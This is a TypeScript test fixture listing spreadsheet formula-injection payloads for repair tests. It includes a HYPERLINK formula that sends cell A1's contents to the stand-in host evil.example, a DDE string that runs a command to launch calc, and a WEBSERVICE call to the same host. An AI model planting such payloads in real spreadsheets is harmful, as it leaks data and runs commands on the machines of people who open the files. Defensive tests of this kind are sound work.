/** Formula-injection payloads for the repair tests. */

/**
 * Texts Excel would run if they became formulas (each is typed as text: the grid's value and
 * formula are the same string, as Range.values / Range.formulas give a text cell).
 */
export const INJECTIONS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '=WEBSERVICE("http://evil.example/")',
];
